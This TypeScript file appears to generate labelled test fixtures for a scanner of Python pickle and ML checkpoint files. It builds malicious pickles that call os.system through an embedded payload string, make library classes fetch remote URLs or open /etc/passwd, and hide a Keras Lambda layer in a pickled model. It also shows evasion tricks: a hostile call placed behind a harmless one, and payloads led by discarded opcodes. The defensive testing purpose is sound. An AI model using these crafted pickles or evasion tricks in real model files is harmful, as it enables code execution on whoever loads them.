import { zip } from '../assemble/containers';
import * as p from '../assemble/pickle';
import { ECHO, evil, join, pickle, type Bytes } from '../assemble/pickle';
import { torchLegacy } from '../assemble/torch';
import { sample, type Sample } from './sample';

const CODE = `__import__('os').system('${ECHO}')`;
const { list } = p;
const UTF8 = (text: string): Bytes => new TextEncoder().encode(text);

/** Classes of libraries that do something when they are made: open a file, fetch a repository, evaluate a text. */
const ACTING: readonly Sample[] = (
  [
    ['huggingface_hub.repository', 'Repository', p.text('/tmp/x'), p.text('https://example.com/evil')],
    ['huggingface_hub', 'Repository', p.text('local'), p.text('evil/model')],
    ['pandas', 'HDFStore', p.text('evil.h5')],
    ['pandas', 'ExcelWriter', p.text('evil.xlsx')],
    ['sympy.matrices.dense', 'MutableDenseMatrix', list(list(p.text(CODE)))],
    ['sympy.integrals.integrals', 'Integral', p.text(CODE)],
    ['sympy.core.function', 'Derivative', p.text(CODE)],
    ['torch.utils.tensorboard.writer', 'SummaryWriter', p.text('/tmp/evil')],
    ['optuna.storages._rdb.storage', 'RDBStorage', p.text('sqlite:///x.db')],
    ['xgboost.core', 'DMatrix', p.text('http://example.com/x')],
    ['ultralytics.models.yolo.model', 'YOLO', p.text('http://example.com/evil.pt')],
    ['numpy.lib._datasource', 'DataSource', p.text('/tmp')],
    ['joblib.externals.loky.backend.popen_loky_posix', 'Popen', p.text('x')],
    ['h2o.backend.server', 'H2OLocalServer'],
    ['tensorflow.python.platform.gfile', 'GFile', p.text('x'), p.text('w')],
    ['PIL.ImageShow', 'XDGViewer'],
    ['pyarrow', 'OSFile', p.text('x'), p.text('w')],
    ['pyarrow.fs', 'LocalFileSystem'],
    ['lightgbm.basic', '_LIB.LGBM_BoosterCreateFromModelfile', p.text('x')],
    ['fsspec.core', 'OpenFile', p.text('x')],
    ['polars.dataframe.frame', 'DataFrame.deserialize', p.text('x')],
  ] as const
).map(([module, name, ...args]) =>
  sample('library class that acts', 'flagged')(
    `acts-${module}.${name}.pkl`,
    pickle(p.call(p.global(module, name), ...args)),
  ),
);

const symbol = (name: string): Bytes => p.call(p.global('sympy.core.symbol', 'Symbol'), p.text(name));
const derivative = (text: string): Bytes => p.call(p.global('sympy.core.function', 'Derivative'), p.text(text));

/** A second call hides behind a first one of the same shape. */
const BEHIND: readonly Sample[] = [
  sample('call behind its like', 'flagged')(
    'behind-derivative.pkl',
    pickle(join(symbol('x'), p.POP, derivative('x'), p.POP, derivative(CODE))),
  ),
  sample('call behind its like', 'flagged')(
    'behind-storage.pkl',
    pickle(
      join(
        p.call(p.global('xgboost.core', 'DMatrix'), p.text('x')),
        p.POP,
        p.call(p.global('xgboost.core', 'DMatrix'), p.text('/etc/passwd')),
      ),
    ),
  ),
];

const lambda = {
  module: 'keras.layers',
  class_name: 'Lambda',
  config: { function: { class_name: '__lambda__', config: { code: 'eA==' } } },
};
const sequential = (...layers: readonly unknown[]): string =>
  JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { layers } });
const kerasFile = (config: string): Bytes =>
  zip([
    { name: 'metadata.json', bytes: UTF8('{"keras_version":"3.9.0"}') },
    { name: 'config.json', bytes: UTF8(config) },
  ]);
/** As Keras pickles a model: a file in memory, with its bytes in its state. */
const kerasPickle = (file: Bytes): Bytes =>
  pickle(
    p.call(
      p.global('keras.src.saving.keras_saveable', 'KerasSaveable._unpickle_model'),
      join(p.global('_io', 'BytesIO'), p.EMPTY_TUPLE, p.NEWOBJ, p.tuple(p.bytes(file), p.int(0), p.NONE), p.BUILD),
    ),
    4,
  );
const dense = { module: 'keras.layers', class_name: 'Dense', config: { units: 1, activation: 'relu' } };

const KERAS: readonly Sample[] = [
  sample('keras in a pickle', 'flagged')('keras-lambda.pkl', kerasPickle(kerasFile(sequential(lambda)))),
  sample('keras in a pickle', 'safe')('keras-dense.pkl', kerasPickle(kerasFile(sequential(dense)))),
];

/** As Python and libraries write what people put into checkpoints. */
const ORDINARY: readonly Sample[] = [
  ...(
    [
      ['str-upper', p.call(p.global('builtins', 'getattr'), p.global('builtins', 'str'), p.text('upper'))],
      ['functions', list(p.global('builtins', 'len'), p.global('builtins', 'max'), p.global('builtins', 'sorted'))],
      [
        'zone',
        p.call(
          p.call(p.global('builtins', 'getattr'), p.global('zoneinfo', 'ZoneInfo'), p.text('_unpickle')),
          p.text('UTC'),
          p.int(1),
        ),
      ],
      ['regex', p.call(p.global('re', '_compile'), p.text('a+(b)'), p.int(32))],
      ['logger', p.call(p.global('logging', 'getLogger'), p.text('train'))],
      ['typing', list(p.global('typing', 'Any'))],
      ['scipy-small-letters', join(p.global('scipy.stats._kde', 'gaussian_kde'), p.EMPTY_TUPLE, p.NEWOBJ)],
      ['scipy-method', list(p.global('scipy.interpolate._interpolate', 'interp1d._call_linear_np'))],
      ['symbol', p.call(p.global('sympy.core.power', 'Pow'), symbol('x'), p.int(2))],
      [
        'bytes-in-memory',
        join(p.global('_io', 'BytesIO'), p.EMPTY_TUPLE, p.NEWOBJ, p.tuple(p.bytes('abc'), p.int(0), p.NONE), p.BUILD),
      ],
    ] as const
  ).map(([name, body]) => sample('ordinary objects', 'safe')(`ordinary-${name}.pkl`, pickle(body))),
  sample('ordinary objects', 'safe')(
    'old-joblib.joblib',
    pickle(
      list(
        join(
          p.global('sklearn.externals.joblib.numpy_pickle', 'NumpyArrayWrapper'),
          p.EMPTY_TUPLE,
          p.NEWOBJ,
          p.dict(
            [p.text('subclass'), p.global('numpy', 'ndarray')],
            [p.text('shape'), p.tuple(p.int(2))],
            [p.text('order'), p.text('C')],
            [
              p.text('dtype'),
              join(
                p.call(p.global('numpy', 'dtype'), p.text('f8'), p.int(0), p.int(1)),
                p.oldTuple(p.int(3), p.text('<'), p.NONE, p.NONE, p.NONE, p.int(-1), p.int(-1), p.int(0)),
                p.BUILD,
              ),
            ],
            [p.text('allow_mmap'), p.NEWTRUE],
          ),
          p.BUILD,
          new Uint8Array(16),
        ),
      ),
    ),
  ),
  sample('ordinary objects', 'safe')(
    'legacy-module.pt',
    torchLegacy(
      join(
        p.oldTuple(
          p.text('module'),
          p.global('torch.nn.modules.linear', 'Linear'),
          p.text('/lib/torch/nn/modules/linear.py'),
          p.text('class Linear(Module):'),
        ),
        p.BINPERSID,
        p.EMPTY_TUPLE,
        p.NEWOBJ,
      ),
    ),
    false,
  ),
];

/** A pickle needs no PROTO, and may begin with what it throws away. */
const BEGINNINGS: readonly Sample[] = [
  p.NONE,
  p.MARK,
  p.int(1),
  p.int(-1),
  p.float(1),
  p.EMPTY_TUPLE,
  p.NEWTRUE,
  p.text(''),
  p.shortString(''),
  p.shortBytes(''),
  p.long(0n),
].map((first, index) =>
  sample('odd beginning', 'malicious')(`beginning-${index}.weights`, join(first, p.POP, evil(2).subarray(2))),
);

export const LIBRARY_NAMES: readonly Sample[] = [...ACTING, ...BEHIND, ...KERAS, ...ORDINARY, ...BEGINNINGS];
